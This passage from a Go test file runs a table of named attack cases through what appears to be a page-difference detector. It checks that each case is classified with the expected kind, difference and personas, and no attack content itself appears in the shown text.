		t.Errorf("%d cases, want at least 30", len(attacks))
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			diff, err := a.run(t)
			if err != nil {
				t.Fatal(err)
			}
			page := diff.Pages[0]
			told := slices.IndexFunc(page.Differences, func(d Difference) bool { return d.What == a.what })
			if page.Kind != a.kind || told < 0 {
				t.Fatalf("told as %q %v, want %s by a difference of %s", page.Kind, page.Differences, a.kind, a.what)
			}
			if !slices.Equal(page.Differences[told].Personas, a.by) {
				t.Errorf("shown to %q, want %q", page.Differences[told].Personas, a.by)
			}
		})
	}
}
